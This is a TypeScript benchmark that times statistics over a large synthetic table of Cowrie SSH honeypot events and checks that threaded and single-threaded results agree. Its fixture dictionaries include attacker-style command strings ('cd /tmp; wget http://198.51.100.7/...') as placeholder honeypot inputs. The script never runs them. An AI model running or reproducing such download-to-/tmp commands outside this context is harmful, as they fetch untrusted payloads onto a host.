/**
 * What do the statistics cost on a large fleet? 365 days x 100 sensors x 2,000 keys a sensor-day.
 *
 * Run: bun test/bench/statistics-cost.bench.ts [days] [sensors] [keys a sensor-day]
 *
 * The table is drawn first (not timed); memory is reported for the table and for the peak while the statistics ran.
 * One thread and several must find the same in a smaller table before anything is timed.
 * The floor is one pass over every row that adds up the counts by sensor.
 */
import { strictEqual } from "node:assert";
import { readFileSync } from "node:fs";
import { availableParallelism } from "node:os";
import { NO_SETS } from "../../lib/columns/address-sets.ts";
import { KIND_NAMES, KINDS, type Kind, TEXT_KEYS, type TextKey } from "../../lib/reduced/kinds.ts";
import { type KindTable, type ReducedTable, unknownAddresses } from "../../lib/reduced/reduced-table.ts";
import { sharedFloats, sharedInts } from "../../lib/columns/shared-arrays.ts";
import { computeStatistics } from "../../lib/statistics/statistics.ts";
import { computeInThreads } from "../../lib/statistics/statistics-threads.ts";
import { NO_INFO } from "../support/build.ts";
import { hashNumbers, seededRandom } from "../support/random.ts";

/** Draws of a sensor-day, some of which meet: 3,000 give 1,940 rows. */
interface Size {
  days: number;
  sensors: number;
  keysPerDay: number;
}

const [days = 365, sensors = 100, keysPerDay = 3100] = Bun.argv.slice(2).map(Number);
const DAY_0 = 19_800;

/** Keys of each kind in a sensor-day, and how many distinct ones there are in the whole world. */
const SHAPE: { kind: Kind; share: number; pool: number }[] = [
  { kind: "login", share: 0.45, pool: 2_000_000 },
  { kind: "connect", share: 0.22, pool: 1_000_000 },
  { kind: "session_closed", share: 0.2, pool: 1_000_000 },
  { kind: "command", share: 0.06, pool: 20_000 },
  { kind: "client", share: 0.04, pool: 5_000 },
  { kind: "file_download", share: 0.01, pool: 20_000 },
];

/** A key of the pool as codes, ascending with its number. */
function toCodes(kind: Kind, key: number): number[] {
  switch (kind) {
    case "login":
      return [key >>> 8, hashNumbers(key) % 500_000];
    case "connect":
    case "session_closed":
      return [key >>> 1, key & 1];
    case "file_download":
      return [key, -1, key];
    case "client":
      return [key, -1];
    default:
      return [key];
  }
}

function drawKind(kind: Kind, perDay: number, pool: number, { days, sensors }: Size): KindTable {
  const random = seededRandom(kind);
  const most = perDay * days * sensors;
  const names: readonly string[] = KINDS[kind];
  const day = sharedInts(most);
  const sensor = sharedInts(most);
  const count = sharedFloats(most);
  const columns = names.map(() => sharedInts(most));
  let rows = 0;
  const drawn = new Int32Array(perDay);
  for (let d = 0; d < days; d++) {
    for (let s = 0; s < sensors; s++) {
      // Half from a heavy tail, some of which come every day; half from anywhere, hardly ever to come again.
      for (let i = 0; i < perDay; i++) drawn[i] = i % 2 === 0 ? random.zipf(1.4, pool) : random.int(pool);
      drawn.sort();
      for (let i = 0; i < perDay; i++) {
        if (i > 0 && drawn[i] === drawn[i - 1]) continue;
        day[rows] = DAY_0 + d;
        sensor[rows] = s;
        // Half of all keys once a day, a quarter twice, and so on.
        count[rows] = 1 + Math.clz32(random.word());
        // On the last day the commonest keys come in hundreds on every tenth sensor, so that there is something to find.
        if (d === days - 1 && s % 10 === 0 && drawn[i]! < 5) count[rows]! += 500;
        for (const [c, code] of toCodes(kind, drawn[i]!).entries()) columns[c]![rows] = code;
        rows++;
      }
    }
  }
  return finish(kind, rows, day, sensor, count, columns);
}

function drawEvents({ days, sensors }: Size): KindTable {
  const rows = days * sensors * 24;
  const day = Int32Array.from({ length: rows }, (_, i) => DAY_0 + Math.floor(i / (24 * sensors)));
  const sensor = Int32Array.from({ length: rows }, (_, i) => Math.floor(i / 24) % sensors);
  const hour = Int32Array.from({ length: rows }, (_, i) => i % 24);
  const random = seededRandom("events");
  const count = Float64Array.from({ length: rows }, () => 100 + random.int(200));
  return finish("event", rows, day, sensor, count, [new Int32Array(rows), hour]);
}

function finish(
  kind: Kind,
  rows: number,
  day: Int32Array,
  sensor: Int32Array,
  count: Float64Array,
  columns: Int32Array[],
): KindTable {
  const noon = sharedFloats(rows);
  for (let row = 0; row < rows; row++) noon[row] = (day[row]! + 0.5) * 86_400_000_000;
  return {
    kind,
    rows,
    day: day.subarray(0, rows),
    sensor: sensor.subarray(0, rows),
    keys: Object.fromEntries(KINDS[kind].map((name, c) => [name, columns[c]!.subarray(0, rows)])),
    count: count.subarray(0, rows),
    success: new Float64Array(0),
    addresses: unknownAddresses(kind, rows),
    firstSeenUs: noon,
    lastSeenUs: noon,
  };
}

/** Resident memory of this process, MB; `VmHWM` is its highest so far. */
function memoryMb(line: "VmRSS" | "VmHWM"): number {
  const status = readFileSync("/proc/self/status", "utf8");
  return Number(new RegExp(`${line}:\\s+(\\d+)`).exec(status)![1]) / 1024;
}

const texts = (prefix: string, n: number) => Array.from({ length: n }, (_, i) => prefix + i);

function drawTable(size: Size): ReducedTable {
  const dictionaries = Object.fromEntries(TEXT_KEYS.map(name => [name, [] as string[]])) as Record<TextKey, string[]>;
  const nothing = (kind: Kind) => finish(kind, 0, sharedInts(0), sharedInts(0), sharedFloats(0), KINDS[kind].map(() => sharedInts(0)));
  const kinds = Object.fromEntries(KIND_NAMES.map(kind => [kind, nothing(kind)])) as Record<Kind, KindTable>;
  for (const { kind, share, pool } of SHAPE) {
    kinds[kind] = drawKind(kind, Math.round(share * size.keysPerDay), pool, size);
  }
  kinds.event = drawEvents(size);
  return {
    info: NO_INFO,
    dictionaries: {
      ...dictionaries,
      sensor: texts("sensor ", size.sensors),
      username: texts("user", 8_000),
      password: texts("secret", 500_000),
      input: texts("cd /tmp; wget http://198.51.100.7/", 20_000),
      src_ip: texts("address ", 500_000),
      url: texts("http://198.51.100.7/", 20_000),
      shasum: texts("sha", 20_000),
      version: texts("SSH-2.0-", 5_000),
      eventid: ["cowrie.session.connect"],
    },
    sets: NO_SETS,
    kinds,
  };
}

const threads = availableParallelism();
const small = drawTable({ days: 60, sensors: 10, keysPerDay: 500 });
const plain = computeStatistics(small);
strictEqual(JSON.stringify(await computeInThreads(small, {}, threads)), JSON.stringify(plain));
console.log(`agreed: ${plain.tests.m} tests, ${plain.tests.reported} changes, ${plain.comparison.standOut.length} stand out`);

const table = drawTable({ days, sensors, keysPerDay });
const rows = KIND_NAMES.reduce((sum, kind) => sum + table.kinds[kind].rows, 0);
Bun.gc(true);
const before = memoryMb("VmRSS");
console.log(`${new Date().toISOString()} bun ${Bun.version}: ${days} days x ${sensors} sensors, ${rows} rows`);
console.log(`table: ${before.toFixed(0)} MB resident`);

const floorStart = performance.now();
const totals = new Float64Array(sensors);
for (const kind of KIND_NAMES) {
  const { rows, sensor, count } = table.kinds[kind];
  for (let row = 0; row < rows; row++) totals[sensor[row]!]! += count[row]!;
}
console.log(`floor: ${((performance.now() - floorStart) / 1000).toFixed(2)} s to add up every count`);

// Writing 5 resets the high-water mark, so that drawing the table does not count.
await Bun.write("/proc/self/clear_refs", "5").catch(() => undefined);
const cpuStart = process.cpuUsage();
const start = performance.now();
const statistics = await computeInThreads(table, {}, threads);
const seconds = (performance.now() - start) / 1000;
const cpu = process.cpuUsage(cpuStart);
const peak = memoryMb("VmHWM");
const cpuSeconds = (cpu.user + cpu.system) / 1e6;
console.log(`statistics in ${threads} threads: ${seconds.toFixed(2)} s, ${cpuSeconds.toFixed(2)} s of CPU time with garbage collection`);
console.log(`peak: ${peak.toFixed(0)} MB resident, ${(peak - before).toFixed(0)} MB beside the table`);
console.log(`tests: ${statistics.tests.m}, reported ${statistics.tests.reported}`);
